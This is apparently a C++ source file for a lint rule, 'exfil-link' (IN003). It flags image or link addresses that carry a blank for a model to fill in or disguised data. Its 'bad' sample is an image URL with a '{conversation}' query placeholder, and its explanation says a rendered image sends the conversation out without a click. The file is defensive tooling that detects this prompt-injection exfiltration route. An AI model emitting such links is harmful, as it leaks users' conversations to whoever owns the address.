// IN003. Not in code, where documents show such addresses; not where an address stands by itself in the text.
#include <map>
#include <string_view>

#include <fmt/format.h>

#include "lint/addresses.hpp"
#include "lint/code_places.hpp"
#include "lint/exfiltration.hpp"
#include "lint/places.hpp"
#include "lint/rules.hpp"
#include "lint/shown_text.hpp"

namespace ingot::lint {
namespace {

using Use = Address::Use;

std::string_view said_of(Cargo::Kind kind) {
  switch (kind) {
    case Cargo::Kind::blank:
      return "a place to be filled in";
    case Cargo::Kind::disguised:
      return "a text in disguise";
    case Cargo::Kind::opaque:
      break;
  }
  return "a long value that nobody can read";
}

void check(const Subject& subject, Findings& findings) {
  const ShownText shown(subject, ShownText::Escapes::decoded);
  const std::string_view text = shown.text();
  CodePlaces code(subject);
  Places places;
  std::map<std::size_t, Use> uses;
  for (const Address& address : addresses_of(text)) {
    if (address.use == Use::bare || shown.is_repeated(address.span.begin)) continue;
    if (!cargo_of(address.span.of(text), address.use) || code.has(address.span.begin)) continue;
    uses.emplace(address.span.begin, address.use);
    places.add(address.span);
  }
  places.report(findings, [&](ByteRange piece) {
    const Use use = uses.at(piece.begin);
    const auto cargo = cargo_of(piece.of(text), use);
    model::Diagnostic finding =
        document_finding(shown.in_file(piece), fmt::format("the address of this {} takes {} with it: {}",
                                                           use == Use::image ? "image" : "link", said_of(cargo->kind),
                                                           in_quotes(cargo->piece, 60)));
    finding.label = use == Use::image ? "sent as soon as it is shown" : "sent to whoever owns the address";
    finding.help = "take that out of the address, or put the address in backticks where it is only shown";
    return finding;
  });
}

}  // namespace

Rule exfil_link() {
  return {.id = "IN003",
          .name = "exfil-link",
          .severity = model::Severity::warning,
          .strict = model::Severity::warning,
          .summary = "The address of an image or a link has a blank for a model to fill in, or a text in disguise.",
          .why =
              "A model that repeats the link puts what it knows of the reader into it, and the image is fetched as\n"
              "soon as the answer is shown: the conversation leaves without a click.",
          .bad = "![logo](https://img.example.com/l.png?q={conversation})",
          .good = "![logo](https://img.example.com/l.png)",
          .check = check,
          .needs = Sight::text,
          .stage = Stage::preview};
}

}  // namespace ingot::lint
